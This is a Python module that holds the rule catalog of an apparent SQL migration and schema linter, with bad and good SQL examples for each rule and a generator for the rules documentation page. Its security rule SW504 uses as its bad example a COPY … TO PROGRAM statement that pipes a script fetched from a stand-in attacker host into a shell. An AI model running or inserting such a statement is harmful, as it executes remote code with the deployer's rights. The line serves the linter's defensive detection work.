"""The rule catalog: one entry per stable code; the single source for docs/rules.md.

Run ``python -m schemawright.review.catalog > docs/rules.md`` to regenerate the documentation page.
"""

from __future__ import annotations

from dataclasses import dataclass

from schemawright.review.models import Category, Severity

S, P, D, N, X, M = (
    Category.SCHEMA_DESIGN,
    Category.PERFORMANCE,
    Category.DATA_INTEGRITY,
    Category.NAMING,
    Category.SECURITY,
    Category.MIGRATION_SAFETY,
)
E, W, INFO = Severity.ERROR, Severity.WARNING, Severity.INFO


@dataclass(frozen=True)
class Rule:
    code: str
    name: str
    severity: Severity
    category: Category
    title: str
    impact: str
    bad: str
    good: str
    squawk: tuple[str, ...] = ()
    dialects: tuple[str, ...] = ("postgresql", "mysql", "sqlite")


PG = ("postgresql",)

RULES: tuple[Rule, ...] = (
    # --- Schema design -------------------------------------------------------------------------
    Rule(
        "SW101",
        "missing-primary-key",
        E,
        S,
        "Table has no primary key",
        "Rows cannot be addressed uniquely: duplicates creep in, replication and ORMs break, updates hit "
        "several rows.",
        "CREATE TABLE tags (name TEXT NOT NULL);",
        "CREATE TABLE tags (id BIGINT GENERATED ALWAYS AS IDENTITY, name TEXT NOT NULL,\n"
        "  CONSTRAINT pk_tags PRIMARY KEY (id));",
    ),
    Rule(
        "SW102",
        "copied-column",
        W,
        S,
        "Column copies a value from a referenced table",
        "A copy such as `orders.user_email` next to `orders.user_id` goes stale when the source changes "
        "(violates 3NF).",
        "CREATE TABLE orders (id BIGINT PRIMARY KEY, user_id BIGINT REFERENCES users (id), user_email TEXT);",
        "CREATE TABLE orders (id BIGINT PRIMARY KEY, user_id BIGINT REFERENCES users (id));\n"
        "-- read the e-mail through a join on users",
    ),
    Rule(
        "SW103",
        "money-not-decimal",
        E,
        S,
        "Money stored as float or text",
        "Binary floating point cannot represent cents exactly and text cannot be summed or constrained: "
        "totals drift and invalid amounts are accepted. A column about money that is no amount "
        "(`payment_method_token`, `tax_behavior`, `currency`) is not reported.",
        "price DOUBLE PRECISION NOT NULL",
        "price NUMERIC(12, 2) NOT NULL CHECK (price >= 0)  -- or price_cents BIGINT",
    ),
    Rule(
        "SW104",
        "timestamp-without-time-zone",
        W,
        S,
        "Timestamp without time zone",
        "`TIMESTAMP` stores wall-clock time: values written from servers or clients in different zones "
        "cannot be compared or ordered reliably.",
        "created_at TIMESTAMP NOT NULL DEFAULT now()",
        "created_at TIMESTAMPTZ NOT NULL DEFAULT now()",
        squawk=("prefer-timestamp-tz",),
        dialects=PG,
    ),
    Rule(
        "SW105",
        "temporal-as-text",
        E,
        S,
        "Date or time stored as text or number",
        "Text dates sort wrongly, accept invalid values and cannot use date arithmetic or range indexes.",
        "starts_at VARCHAR(32)",
        "starts_at TIMESTAMPTZ",
        dialects=("postgresql", "mysql"),
    ),
    Rule(
        "SW106",
        "missing-created-at",
        W,
        S,
        "Table has no creation timestamp",
        "Without a creation timestamp you cannot audit, debug or archive rows by age. `created_at` (or "
        "`created_on`, `inserted_at` …) counts, and so does any other timestamp-named column (`_at`, `_on`, "
        "`_time`, `_timestamp`, `_ts`, `_date`, or a bare `time`) every row has — NOT NULL or with a "
        "default, e.g. `published_at TIMESTAMPTZ NOT NULL DEFAULT now()` — and any timestamp defaulting to "
        "the insert's time (`DEFAULT now()`); `updated_at` and nullable ones do not.",
        "CREATE TABLE notes (id BIGINT PRIMARY KEY, body TEXT NOT NULL);",
        "CREATE TABLE notes (id BIGINT PRIMARY KEY, body TEXT NOT NULL,\n"
        "  created_at TIMESTAMPTZ NOT NULL DEFAULT now());",
    ),
    Rule(
        "SW107",
        "missing-updated-at",
        INFO,
        S,
        "Mutable table has no updated_at column",
        "Changes to rows leave no trace; caches and sync jobs cannot find recently changed rows. Tables "
        "whose rows are never changed are not reported: event, log and metric streams (as SW108 names "
        "them, unless they hold named things) and link tables made only of foreign keys.",
        "CREATE TABLE notes (id BIGINT PRIMARY KEY, body TEXT, created_at TIMESTAMPTZ NOT NULL);",
        "... updated_at TIMESTAMPTZ NOT NULL DEFAULT now()  -- kept current by a BEFORE UPDATE trigger",
    ),
    Rule(
        "SW108",
        "large-table-without-partitioning",
        W,
        S,
        "High-volume table without partitioning or retention",
        "Event, log and click tables grow without bound: vacuum, index builds and deletes of old data get "
        "slower and lock longer every month.",
        "CREATE TABLE page_views (id BIGINT PRIMARY KEY, viewed_at TIMESTAMPTZ NOT NULL);",
        "CREATE TABLE page_views (...) PARTITION BY RANGE (viewed_at);\n"
        "-- or document retention: COMMENT ON TABLE page_views IS 'retention: 90 days';",
    ),
    # --- Performance ---------------------------------------------------------------------------
    Rule(
        "SW201",
        "foreign-key-without-index",
        W,
        P,
        "Foreign key columns are not indexed",
        "Joins from the parent and every DELETE/UPDATE of a parent row scan the whole child table. A "
        "partial index counts only when its WHERE follows from the lookup (`WHERE fk_id IS NOT NULL`); "
        "PostgreSQL cannot use one `WHERE deleted_at IS NULL` for the foreign key check. A partitioned "
        "table's `CREATE INDEX … ON ONLY parent (fk_id)` counts.",
        "CREATE TABLE orders (..., user_id BIGINT REFERENCES users (id) ON DELETE CASCADE);",
        "CREATE INDEX idx_orders_user_id ON orders (user_id);",
    ),
    Rule(
        "SW202",
        "duplicate-index",
        W,
        P,
        "Duplicate or redundant index",
        "An index whose columns are a prefix of another index (or the primary key) costs writes and disk and "
        "never helps a query.",
        "CREATE INDEX idx_a ON orders (user_id);\nCREATE INDEX idx_b ON orders (user_id, created_at);",
        "CREATE INDEX idx_b ON orders (user_id, created_at);  -- serves both",
    ),
    Rule(
        "SW203",
        "too-many-indexes",
        W,
        P,
        "Too many indexes on one table",
        "Every index is written on each INSERT/UPDATE; more than 5 secondary indexes (3 on high-volume "
        "tables) slows writes and bloats storage.",
        "-- six CREATE INDEX statements on one table",
        "-- keep the indexes queries need; combine with composite or partial indexes",
    ),
    # --- Data integrity ------------------------------------------------------------------------
    Rule(
        "SW301",
        "foreign-key-without-on-delete",
        W,
        D,
        "Foreign key without an ON DELETE decision",
        "The default (NO ACTION) is rarely a deliberate choice: deleting a parent fails at run time or "
        "children are left without the cascade the model implies.",
        "user_id BIGINT REFERENCES users (id)",
        "user_id BIGINT REFERENCES users (id) ON DELETE CASCADE  -- or SET NULL / RESTRICT",
    ),
    Rule(
        "SW302",
        "unconstrained-status",
        W,
        D,
        "Status-like column without CHECK or enum",
        "A free text or integer status accepts typos and unknown values that application code then "
        "mishandles. An `X_type` whose values are an open set is not a status: media types "
        "(`content_type`, `mime_type`) and polymorphic discriminators (`object_type`, `entity_type`).",
        "status TEXT NOT NULL",
        "status TEXT NOT NULL CONSTRAINT ck_orders_status CHECK (status IN ('pending', 'paid'))",
    ),
    # --- Naming --------------------------------------------------------------------------------
    Rule(
        "SW401",
        "non-snake-case",
        W,
        N,
        "Identifier is not snake_case",
        "Mixed-case names must be quoted forever after and differ between engines' case folding.",
        'CREATE TABLE "UserAccounts" ("firstName" TEXT);',
        "CREATE TABLE user_accounts (first_name TEXT);",
    ),
    Rule(
        "SW402",
        "reserved-word",
        W,
        N,
        "Identifier is an SQL reserved word",
        "Reserved words such as `user` or `order` must be quoted in every query and break tools. Words "
        "the SQL standard leaves free but one engine reserves (`key`, `index` on MySQL; `index` on SQLite) "
        "count only on that engine.",
        'CREATE TABLE "order" (...);',
        "CREATE TABLE orders (...);",
    ),
    Rule(
        "SW403",
        "cryptic-prefix",
        W,
        N,
        "Hungarian prefix or cryptic abbreviation",
        "Prefixes like `tbl_` or `col_` add noise; abbreviations such as `usr_nm` hide meaning.",
        "CREATE TABLE tbl_usr (usr_nm TEXT);",
        "CREATE TABLE users (user_name TEXT);",
    ),
    Rule(
        "SW404",
        "mixed-plural-singular",
        W,
        N,
        "Table names mix plural and singular",
        "Inconsistent table names make every query a guess (`user` or `users`?).",
        "CREATE TABLE users (...); CREATE TABLE order (...);",
        "CREATE TABLE users (...); CREATE TABLE orders (...);",
    ),
    Rule(
        "SW405",
        "identifier-too-long",
        E,
        N,
        "Identifier longer than the engine allows",
        "PostgreSQL silently truncates names over 63 bytes (MySQL rejects over 64), so two long names can "
        "collide and drops target the wrong object. Checked where a statement gives the name (tables, "
        "columns, indexes, constraints, views, triggers, functions, types and sequences) or drops by it, so "
        "a replayed catalog, which holds only the cut names, hides none.",
        "CREATE INDEX idx_an_extremely_long_name_that_goes_on_and_on_past_sixty_three_chars ON t (a);",
        "CREATE INDEX idx_t_a ON t (a);",
        squawk=("identifier-too-long",),
        dialects=("postgresql", "mysql"),
    ),
    # --- Security ------------------------------------------------------------------------------
    Rule(
        "SW501",
        "plaintext-secret",
        E,
        X,
        "Password or secret stored in plaintext",
        "A database leak or a careless SELECT exposes credentials directly.",
        "password VARCHAR(255) NOT NULL",
        "password_hash TEXT NOT NULL  -- store an argon2/bcrypt hash, never the password",
    ),
    Rule(
        "SW502",
        "unprotected-pii",
        W,
        X,
        "Sensitive personal data in a plain column",
        "National ids, card numbers and similar data need encryption or tokenisation to limit breach "
        "impact and meet compliance rules.",
        "ssn VARCHAR(11)",
        "ssn_encrypted BYTEA  -- encrypted by the application or pgcrypto; keep only the last 4 digits "
        "in clear",
    ),
    Rule(
        "SW503",
        "plaintext-token",
        W,
        X,
        "Access token stored in plaintext",
        "Anyone who can read the table can impersonate users with stored reset/API/session tokens.",
        "reset_token TEXT",
        "reset_token_hash TEXT  -- store a SHA-256 of the token",
    ),
    Rule(
        "SW504",
        "reaches-outside-database",
        E,
        X,
        "Statement acts outside the database",
        "A migration runs with the deployer's rights: COPY … TO PROGRAM runs a shell command, ALTER SYSTEM "
        "and roles change the server, COPY/lo_import/INTO OUTFILE/ATTACH read or write its files, dblink and "
        "DROP DATABASE reach other databases. schemawright refuses to replay or verify such a statement.",
        "COPY (SELECT 1) TO PROGRAM 'curl https://attacker.example | sh';",
        "-- keep migrations to schema changes inside the database; do server and role changes in operations",
    ),
    # --- Migration safety ----------------------------------------------------------------------
    Rule(
        "SW601",
        "add-not-null-column-without-default",
        E,
        M,
        "NOT NULL column added to an existing table without a default",
        "Fails on any table with rows (or rewrites it under an exclusive lock on older engines); old "
        "application code that inserts without the column breaks.",
        "ALTER TABLE users ADD COLUMN age INT NOT NULL;",
        "ALTER TABLE users ADD COLUMN age INT;\n-- backfill in batches, then:\n"
        "ALTER TABLE users ALTER COLUMN age SET NOT NULL;",
        squawk=("adding-required-field",),
    ),
    Rule(
        "SW602",
        "column-type-change",
        E,
        M,
        "Column type changed on an existing table",
        "Most type changes rewrite the whole table under an ACCESS EXCLUSIVE lock and can break running "
        "code.",
        "ALTER TABLE users ALTER COLUMN age TYPE BIGINT;",
        "-- add users.age_new BIGINT, dual-write, backfill in batches, switch reads, drop the old column",
        squawk=("changing-column-type",),
    ),
    Rule(
        "SW603",
        "drop-table",
        E,
        M,
        "Table dropped or truncated in an up migration",
        "Irreversible data loss; code that still reads the table fails immediately.",
        "DROP TABLE legacy_orders;",
        "-- stop using the table, back it up, then drop it in a later contract migration:\n"
        "-- schemawright:ignore SW603 unused since v2, backup taken\nDROP TABLE IF EXISTS legacy_orders;",
        squawk=("ban-drop-table",),
    ),
    Rule(
        "SW604",
        "drop-column",
        E,
        M,
        "Column dropped in an up migration",
        "The data is lost on rollback and code still selecting the column fails.",
        "ALTER TABLE users DROP COLUMN nickname;",
        "-- deploy code that no longer reads nickname first, then drop it in a later migration",
        squawk=("ban-drop-column",),
    ),
    Rule(
        "SW605",
        "rename",
        E,
        M,
        "Table or column renamed",
        "Running application code still uses the old name and fails until it is redeployed.",
        "ALTER TABLE users RENAME COLUMN name TO full_name;",
        "-- expand: add full_name, dual-write, backfill; contract: drop name once unused",
        squawk=("renaming-column", "renaming-table"),
    ),
    Rule(
        "SW606",
        "non-concurrent-index",
        E,
        M,
        "Index created without CONCURRENTLY on an existing table",
        "CREATE INDEX blocks all writes to the table for the whole build. A partitioned table's "
        "`CREATE INDEX … ON ONLY parent` builds nothing (each partition's index is built CONCURRENTLY and "
        "attached) and is not reported.",
        "CREATE INDEX idx_orders_status ON orders (status);",
        "CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_orders_status ON orders (status);",
        squawk=("require-concurrent-index-creation",),
        dialects=PG,
    ),
    Rule(
        "SW607",
        "foreign-key-without-not-valid",
        E,
        M,
        "Foreign key added to an existing table without NOT VALID",
        "Validating every row holds a SHARE ROW EXCLUSIVE lock on both tables for the whole scan.",
        "ALTER TABLE orders ADD CONSTRAINT fk_orders_user FOREIGN KEY (user_id) REFERENCES users (id);",
        "ALTER TABLE orders ADD CONSTRAINT fk_orders_user FOREIGN KEY (user_id) REFERENCES users (id) "
        "NOT VALID;\nALTER TABLE orders VALIDATE CONSTRAINT fk_orders_user;  -- separate migration",
        squawk=("adding-foreign-key-constraint", "constraint-missing-not-valid"),
        dialects=PG,
    ),
    Rule(
        "SW608",
        "check-without-not-valid",
        W,
        M,
        "CHECK constraint added to an existing table without NOT VALID",
        "The table is scanned under an ACCESS EXCLUSIVE lock while the constraint is validated.",
        "ALTER TABLE orders ADD CONSTRAINT ck_total CHECK (total >= 0);",
        "ALTER TABLE orders ADD CONSTRAINT ck_total CHECK (total >= 0) NOT VALID;\n"
        "ALTER TABLE orders VALIDATE CONSTRAINT ck_total;",
        squawk=("constraint-missing-not-valid",),
        dialects=PG,
    ),
    Rule(
        "SW609",
        "set-not-null",
        W,
        M,
        "NOT NULL set on an existing column",
        "The whole table is scanned under an ACCESS EXCLUSIVE lock; fails if any NULL remains.",
        "ALTER TABLE users ALTER COLUMN email SET NOT NULL;",
        "ALTER TABLE users ADD CONSTRAINT ck_users_email_nn CHECK (email IS NOT NULL) NOT VALID;\n"
        "ALTER TABLE users VALIDATE CONSTRAINT ck_users_email_nn;\n"
        "ALTER TABLE users ALTER COLUMN email SET NOT NULL;",
        squawk=("adding-not-nullable-field",),
    ),
    Rule(
        "SW610",
        "unique-on-existing-table",
        W,
        M,
        "Unique or primary key constraint added to an existing table",
        "Builds an index under an exclusive lock and fails if existing data has duplicates; an inline "
        "`ADD COLUMN … UNIQUE` (or `PRIMARY KEY`) builds it under the same lock.",
        "ALTER TABLE users ADD CONSTRAINT uq_users_email UNIQUE (email);\n"
        "ALTER TABLE users ADD COLUMN handle TEXT UNIQUE;",
        "CREATE UNIQUE INDEX CONCURRENTLY uq_users_email ON users (email);\n"
        "ALTER TABLE users ADD CONSTRAINT uq_users_email UNIQUE USING INDEX uq_users_email;",
        squawk=(
            "disallowed-unique-constraint",
            "adding-serial-primary-key-field",
            "constraint-missing-not-valid",
        ),
    ),
    Rule(
        "SW611",
        "unbatched-backfill",
        W,
        M,
        "Data change on an existing table is not batched",
        "One UPDATE/DELETE over the whole table holds row locks and bloats the WAL for its whole duration. "
        "A change pinned to one row (`WHERE <primary key or unique column> = <value>`) is not reported.",
        "UPDATE users SET status = 'active';",
        "UPDATE users SET status = 'active' WHERE id BETWEEN :lo AND :hi AND status IS NULL;"
        "  -- loop over id ranges",
    ),
    Rule(
        "SW612",
        "missing-down-migration",
        E,
        M,
        "Migration has no down migration",
        "The change cannot be rolled back when a deployment fails.",
        "0002_add_orders.up.sql with no 0002_add_orders.down.sql",
        "0002_add_orders.down.sql: DROP TABLE IF EXISTS orders;",
    ),
    Rule(
        "SW613",
        "non-restoring-down",
        E,
        M,
        "Down migration does not restore the previous schema",
        "After a rollback, objects created by the up stay behind (or dropped ones stay missing), so the "
        "next up fails or the schema drifts.",
        "up: CREATE TABLE a (...); CREATE FUNCTION f() ...\ndown: DROP TABLE a;",
        "down: DROP TABLE IF EXISTS a; DROP FUNCTION IF EXISTS f();",
    ),
    Rule(
        "SW614",
        "non-idempotent",
        INFO,
        M,
        "Statement fails when re-run",
        "A half-applied migration cannot simply be re-run; the operator must repair the schema by hand.",
        "CREATE INDEX idx_a ON t (a);",
        "CREATE INDEX IF NOT EXISTS idx_a ON t (a);",
        squawk=("prefer-robust-stmts",),
    ),
    Rule(
        "SW615",
        "non-concurrent-drop-index",
        W,
        M,
        "Index dropped without CONCURRENTLY",
        "DROP INDEX takes an ACCESS EXCLUSIVE lock on the table while it runs. Not reported for a "
        "partitioned table's index, which PostgreSQL drops only without CONCURRENTLY.",
        "DROP INDEX idx_orders_status;",
        "DROP INDEX CONCURRENTLY IF EXISTS idx_orders_status;",
        squawk=("require-concurrent-index-deletion",),
        dialects=PG,
    ),
    Rule(
        "SW616",
        "concurrent-index-in-transaction",
        E,
        M,
        "CREATE INDEX CONCURRENTLY inside a transaction",
        "PostgreSQL refuses CONCURRENTLY inside a transaction block; the migration fails.",
        "BEGIN; CREATE INDEX CONCURRENTLY idx_a ON t (a); COMMIT;",
        "-- migrate:up transaction:false   (dbmate)  /  -- +goose NO TRANSACTION   (goose)\n"
        "-- metadata.toml beside up.sql: run_in_transaction = false   (Diesel)\n"
        "-- atlas:txmode none   (Atlas: first line, then a blank line)\n"
        "--changeset ann:2 runInTransaction:false   (Liquibase)",
        squawk=("ban-concurrent-index-creation-in-transaction",),
        dialects=PG,
    ),
    Rule(
        "SW617",
        "rejected-by-engine",
        E,
        M,
        "Migration fails when applied to a real engine",
        "The engine rejects the statement: the deployment stops half-way (or, without transactional DDL, "
        "leaves a partly applied schema). Found by replaying the chain on a scratch database, and "
        "statically for `DROP INDEX CONCURRENTLY` with several names, which PostgreSQL always rejects.",
        "up: CREATE TABLE t (id INT PRIMARY KEY REFERENCES missing (id));\n"
        "DROP INDEX CONCURRENTLY idx_a, idx_b;",
        "create the referenced table first, or fix the statement so the engine accepts it",
    ),
    Rule(
        "SW618",
        "conflicts-with-schema",
        E,
        M,
        "Statement conflicts with the schema built by earlier migrations",
        "CREATE of an object that already exists or DROP of one that does not fails at deploy time; a down "
        "that drops an object an earlier migration created (a shared trigger function, a table) breaks "
        "that migration's objects or fails on their dependencies.",
        "-- 001 created set_updated_at(); 002's down:\nDROP FUNCTION set_updated_at();",
        "-- 002's down drops only what 002's up created:\nDROP TRIGGER IF EXISTS trg_orders_updated_at ON "
        "orders;",
    ),
    Rule(
        "SW619",
        "missing-lock-timeout",
        W,
        M,
        "Lock-taking DDL on an existing table without lock_timeout",
        "An ALTER queued behind a long transaction holds its lock request and blocks every later query on "
        "the table: a short change becomes an outage. `lock_timeout` makes it fail fast and retry instead. "
        "A new table's foreign key locks the existing table it references (SHARE ROW EXCLUSIVE), DROP "
        "TRIGGER its table, dropping or replacing an existing view locks the view, DROP INDEX (without "
        "CONCURRENTLY) its table, and DROP SCHEMA … CASCADE the tables its triggers and views depend on, "
        "so they count too.",
        "ALTER TABLE users ADD COLUMN nickname TEXT;",
        "SET lock_timeout = '5s';\nALTER TABLE users ADD COLUMN nickname TEXT;",
        squawk=("require-lock-timeout",),
        dialects=PG,
    ),
    Rule(
        "SW620",
        "missing-statement-timeout",
        INFO,
        M,
        "DDL on an existing table without statement_timeout",
        "A rewrite or validation that runs far longer than planned keeps its locks until someone cancels "
        "it; `statement_timeout` bounds the damage.",
        "ALTER TABLE users ALTER COLUMN name SET NOT NULL;",
        "SET statement_timeout = '60s';\nALTER TABLE users ALTER COLUMN name SET NOT NULL;",
        dialects=PG,
    ),
    Rule(
        "SW621",
        "validate-in-same-transaction",
        W,
        M,
        "Constraint added NOT VALID and validated in the same transaction",
        "NOT VALID exists so the validation scan can run later under a weaker lock. Validated in the same "
        "transaction, the scan runs while the ADD CONSTRAINT's lock (ACCESS EXCLUSIVE for a CHECK, SHARE "
        "ROW EXCLUSIVE on both tables for a foreign key) is still held, so writes wait for the whole scan. "
        "A migration runs as one transaction unless marked otherwise (or split by COMMIT).",
        "ALTER TABLE orders ADD CONSTRAINT fk_orders_user FOREIGN KEY (user_id) REFERENCES users (id) "
        "NOT VALID;\nALTER TABLE orders VALIDATE CONSTRAINT fk_orders_user;",
        "-- migration 1:\nALTER TABLE orders ADD CONSTRAINT fk_orders_user FOREIGN KEY (user_id) "
        "REFERENCES users (id) NOT VALID;\n-- migration 2:\nALTER TABLE orders VALIDATE CONSTRAINT "
        "fk_orders_user;",
        squawk=("constraint-missing-not-valid",),
        dialects=PG,
    ),
)

BY_CODE: dict[str, Rule] = {rule.code: rule for rule in RULES}


def render_docs() -> str:
    """The rule reference page (docs/rules.md), generated so it never drifts from the code."""
    out = [
        "# schemawright review rules",
        "",
        "Generated by `python -m schemawright.review.catalog > docs/rules.md`; do not edit by hand.",
        "",
        "Suppress one statement with `-- schemawright:ignore CODE reason` on the line before it (or on the "
        "same line); a whole file with `-- schemawright:ignore-file CODE reason`. Change severities or "
        "disable rules in `pyproject.toml`:",
        "",
        "```toml",
        "[tool.schemawright.review]",
        'severity = { SW614 = "warning" }',
        'disable = ["SW404"]',
        "```",
        "",
        "| code | name | severity | category | catches | squawk |",
        "|---|---|---|---|---|---|",
    ]
    for rule in RULES:
        squawk = ", ".join(rule.squawk) or "—"
        out.append(
            f"| [{rule.code}](#{rule.code.lower()}) | {rule.name} | {rule.severity.value} | "
            f"{rule.category.value} | {rule.title} | {squawk} |"
        )
    for category in dict.fromkeys(rule.category for rule in RULES):
        out += ["", f"## {category.value}"]
        for rule in (r for r in RULES if r.category is category):
            out += [
                "",
                f"### {rule.code}",
                "",
                f"**{rule.title}** (`{rule.name}`, {rule.severity.value}; "
                f"dialects: {', '.join(rule.dialects)})",
                "",
                f"Why: {rule.impact}",
                "",
                "Bad:",
                "",
                "```sql",
                rule.bad,
                "```",
                "",
                "Good:",
                "",
                "```sql",
                rule.good,
                "```",
                "",
                f"Suppress: `-- schemawright:ignore {rule.code} <reason>`",
            ]
    return "\n".join(out) + "\n"


if __name__ == "__main__":
    print(render_docs(), end="")
